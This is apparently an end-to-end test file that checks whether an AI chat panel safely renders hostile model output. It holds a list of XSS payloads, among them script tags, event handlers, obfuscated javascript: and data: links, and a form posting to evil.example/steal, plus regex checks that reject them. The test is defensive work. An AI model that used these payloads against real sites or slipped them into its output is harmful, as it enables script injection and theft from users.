/**
 * Whatever the model sends, the reader's page runs none of it: a stand-in model streams script tags,
 * event handlers, `javascript:`, `vbscript:` and `data:` links, raw HTML and look-alike links through the
 * real `npm run ask-proxy` (which passes the model's text on as it is) into the real Ask AI panel of the
 * production build. Nothing executes, no element or attribute of the model's HTML reaches the page, and
 * no such link can be clicked: the words stay, as text.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { pointAtAskProxy, startAskProxy, startFakeModel } from './askProxy';
import { openPage, setupSite, visit } from './harness';

const site = setupSite();

/** Each line tries something else; `window.injected` is set if any of it runs. */
const HOSTILE = [
  'Invoices are created on each **billing day** [1].',
  '<script>window.injected = "script"</script>',
  '<img src=x onerror="window.injected = \'img\'">',
  '<svg onload="window.injected = \'svg\'"><circle r="5"/></svg>',
  '<iframe src="javascript:window.injected = \'iframe\'"></iframe>',
  '<a href="javascript:window.injected = \'raw-a\'">raw link</a>',
  '<details open ontoggle="window.injected = \'details\'">details</details>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/steal"><button>Submit form</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '[js link](javascript:window.injected="md-js")',
  '[upper js link](JAVASCRIPT:window.injected="md-upper")',
  '[spaced js link]( javascript:window.injected="md-space" )',
  '[tab js link](java\tscript:window.injected="md-tab")',
  '[entity js link](&#106;avascript:window.injected="md-entity")',
  '[vbscript link](vbscript:msgbox(1))',
  '[data link](data:text/html,<script>window.injected="data"</script>)',
  '[data base64 link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaW5qZWN0ZWQ9J2I2NCc8L3NjcmlwdD4=)',
  '![image link](javascript:window.injected="image")',
  '<javascript:window.injected="autolink">',
  '[protocol-relative link](//evil.example/path)',
  '[backslash link](/\\evil.example/path)',
  'Read [the billing guide](/docs/billing) [2].',
].join('\n\n');

/** The labels of links that must not be links: their words show, nothing is clickable. */
const DEAD_LINKS = [
  'js link',
  'upper js link',
  'spaced js link',
  'tab js link',
  'entity js link',
  'vbscript link',
  'data link',
  'data base64 link',
  'image link',
  'protocol-relative link',
  'backslash link',
];

let model: Awaited<ReturnType<typeof startFakeModel>>;
let proxy: Awaited<ReturnType<typeof startAskProxy>>;

before(async () => {
  model = await startFakeModel(HOSTILE);
  proxy = await startAskProxy({
    ASK_API_KEY: 'e2e-key',
    ASK_BASE_URL: model.url,
    ASK_ALLOWED_ORIGINS: new URL(site.url).origin,
    ASK_RATE_LIMIT: '0',
  });
});
after(async () => {
  await proxy?.stop();
  await model?.close();
});

describe('Ask AI renders whatever the model sends safely', () => {
  it('runs nothing, keeps no element or attribute of the HTML, and leaves no dangerous link clickable', async () => {
    const { page, problems } = await openPage(site);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const navigations: string[] = [];
    page.on('framenavigated', (frame) => navigations.push(frame.url()));
    await pointAtAskProxy(page, proxy.origin);
    await visit(page, `${site.url}/`);
    const before = model.requests.length;
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('When are invoices created');
    await page.getByRole('button', { name: /^Ask AI/ }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('region', { name: 'Related sources' }).waitFor();
    await dialog.getByText('the billing guide').waitFor();
    // The model was asked, and what it sent went through the proxy as it was.
    assert.equal(model.requests.length, before + 1);

    // The answer: the rendered Markdown around the model's first words.
    const inAnswer = dialog.locator('[class*="answer_"]', {
      has: page.locator('strong', { hasText: 'billing day' }),
    });
    assert.equal(await inAnswer.count(), 1);
    // The raw HTML shows as text.
    for (const text of ['<script>window.injected = "script"</script>', '<iframe src="javascript:', '<style>'])
      await inAnswer.getByText(text, { exact: false }).first().waitFor();

    // No element of the model's HTML, no event handler, no script or frame, anywhere in the answer; the
    // dialog around it has no script, frame or handler attribute either.
    const found = await page.evaluate(() => {
      const root = [...document.querySelectorAll('[role="dialog"] [class*="answer_"]')].find((element) =>
        element.querySelector('strong')?.textContent?.includes('billing day'),
      )!;
      const dialog = document.querySelector('[role="dialog"]')!;
      const tags = [
        'script',
        'iframe',
        'object',
        'embed',
        'svg circle',
        'img[src="x"]',
        'style',
        'form',
        'meta',
        'details',
      ];
      const elements = tags.filter((tag) => root.querySelector(tag));
      const anywhere = ['script', 'iframe', 'object', 'embed', 'meta', 'style'].filter((tag) =>
        dialog.querySelector(tag),
      );
      const handlers = [...dialog.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter((attribute) => /^on/i.test(attribute.name))
          .map((a) => `${element.tagName} ${a.name}`),
      );
      const hrefs = [...root.querySelectorAll('a[href], [src], [action], [formaction]')].map(
        (element) =>
          element.getAttribute('href') ??
          element.getAttribute('src') ??
          element.getAttribute('action') ??
          element.getAttribute('formaction') ??
          '',
      );
      return { elements, anywhere, handlers, hrefs };
    });
    assert.deepEqual(found.elements, []);
    assert.deepEqual(found.anywhere, []);
    assert.deepEqual(found.handlers, []);
    for (const href of found.hrefs)
      assert.match(href, /^(\/(?![/\\])|#|https?:\/\/|data:image\/svg\+xml)/, `a link or source to ${href}`);
    assert.ok(!found.hrefs.some((href) => /^\s*(javascript|vbscript|data:text)/i.test(href)));

    // The unsafe links keep their words and are no links; the safe one is.
    for (const label of DEAD_LINKS) {
      await inAnswer.getByText(label, { exact: false }).first().waitFor();
      assert.equal(await dialog.getByRole('link', { name: label, exact: true }).count(), 0, label);
    }
    assert.equal(await dialog.getByRole('link', { name: 'raw link' }).count(), 0);
    assert.equal(await dialog.getByRole('button', { name: 'Submit form' }).count(), 0);
    assert.equal(
      await dialog.getByRole('link', { name: 'the billing guide' }).getAttribute('href'),
      '/docs/billing',
    );

    // Clicking the words of every dead link does nothing either.
    for (const label of DEAD_LINKS) await inAnswer.getByText(label).first().click();
    assert.equal(await page.evaluate(() => (window as { injected?: string }).injected), undefined);
    assert.deepEqual(dialogs, []);
    assert.ok(
      navigations.every((url) => url.startsWith(site.url)),
      `navigated to ${navigations.join(', ')}`,
    );
    assert.equal(await page.locator('body').isVisible(), true);
    assert.deepEqual(problems.errors, []);
  });
});
